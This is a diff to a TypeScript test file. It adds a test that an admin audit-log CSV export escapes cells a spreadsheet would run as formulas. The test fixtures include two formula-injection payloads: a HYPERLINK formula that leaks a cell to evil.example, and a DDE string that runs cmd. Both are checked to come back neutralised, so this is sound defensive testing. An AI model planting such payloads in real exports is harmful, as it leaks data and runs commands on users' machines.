@@ -1,6 +1,7 @@
 import t from 'tap';
 import { createDb } from '@hub/runtime';
 import { ENTRY_COLUMNS, parseCsv } from '../src/index.js';
+import { csvField } from '../src/csv.js';
 import { auditRows, setup, type AdminSetup } from './setup.js';
 
 const iso = (ms: number) => new Date(Number(ms)).toISOString();
@@ -143,6 +144,31 @@ t.test('the CSV export parses back to the same rows', async (t) => {
   const tricky = parseCsv((await s.api('GET', '/api/v1/admin/audit-log/export?action=block_add')).text)[1]!;
   t.equal(tricky[ENTRY_COLUMNS.indexOf('detail')], 'a,"quoted"\r\nline =1+1', 'commas, quotes and line breaks survive');
   t.equal((await s.api('GET', '/api/v1/admin/audit-log/export?format=xml')).status, 400);
+});
+
+t.test('CSV cells that a spreadsheet would run as formulas are written as text', async (t) => {
+  for (const [value, cell] of [
+    ['=HYPERLINK("http://x","y")', '"\'=HYPERLINK(""http://x"",""y"")"'],
+    ['+1', "'+1"],
+    ['-1+2', "'-1+2"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\tx', "'\tx"],
+    ['\rx', '"\'\rx"'],
+    ['a=1', 'a=1'],
+    ['', ''],
+  ] as const) {
+    t.equal(csvField(value), cell, JSON.stringify(value));
+  }
+  t.equal(csvField(-1), '-1', 'numbers are not text');
+  t.equal(csvField(null), '');
+
+  const s = await setup(t);
+  for (const reason of ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd|\' /C calc\'!A0']) {
+    t.equal((await s.api('POST', '/api/v1/admin/blocks', { body: { registry: 'npm', package_name: `p${reason.length}`, reason } })).status, 201);
+  }
+  const rows = parseCsv((await s.api('GET', '/api/v1/admin/audit-log/export?action=block_add')).text).slice(1);
+  const details = rows.map((r) => r[ENTRY_COLUMNS.indexOf('detail')]).sort();
+  t.same(details, ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'@SUM(1+1)*cmd|' /C calc'!A0"].sort(), 'the cells start with a quote');
 });
 
 t.test('a clean shutdown writes every buffered event', async (t) => {
